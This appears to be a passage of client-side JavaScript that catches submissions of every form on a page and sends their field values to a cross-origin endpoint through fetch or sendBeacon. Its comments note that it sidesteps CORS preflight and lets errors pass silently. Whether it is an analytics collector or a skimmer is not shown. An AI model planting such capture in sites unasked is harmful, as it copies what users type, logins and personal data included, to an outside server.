function isOurs(form, button) {
  var action = (button && button.getAttribute('formaction')) || form.getAttribute('action') || '';
  try { return new URL(action, document.baseURI).href === endpoint; } catch (e) { return false; }
}

function newId() {
  return [].map.call(crypto.getRandomValues(new Uint8Array(16)), function (b) { return ('0' + b.toString(16)).slice(-2); }).join('');
}

function capture(form, button) {
  if (!(form instanceof HTMLFormElement) || isOurs(form, button)) return;
  var fields = read(form);
  if (!fields) return;
  // One press can be told twice: the event, and then submit() by the page's own script.
  var text = JSON.stringify(fields), before = sent.get(form), now = Date.now();
  if (before && before.text === text && now - before.at < REPEAT) return;
  sent.set(form, { text: text, at: now });
  var body = JSON.stringify(Object.assign({}, first, { form_data: fields, form_url: here(), submission_id: newId() }));
  // Text, so that no preflight stands between a form and a page that is about to be left.
  var type = 'text/plain;charset=UTF-8', small = body.length < 2e4;
  if (!window.fetch || (small && !('keepalive' in Request.prototype))) {
    nav.sendBeacon(endpoint, new Blob([body], { type: type }));
    return;
  }
  fetch(endpoint, { method: 'POST', body: body, mode: 'cors', credentials: 'omit', keepalive: small, headers: { 'Content-Type': type } })
    .catch(function () { /* the page's own business goes on */ });
}
